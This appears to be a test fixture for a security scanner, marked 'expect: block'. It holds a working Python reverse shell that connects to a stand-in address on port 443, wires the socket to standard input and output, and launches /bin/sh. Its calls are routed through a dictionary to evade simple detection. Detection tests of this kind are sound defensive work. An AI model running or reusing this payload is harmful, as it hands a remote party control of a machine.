# expect: block
import os
import socket

ops = {"connect": socket.create_connection, "wire": os.dup2, "shell": os.execv}
s = ops["connect"](("198.51.100.23", 443))
for fd in (0, 1, 2):
    ops["wire"](s.fileno(), fd)
ops["shell"]("/bin/sh", ["sh"])
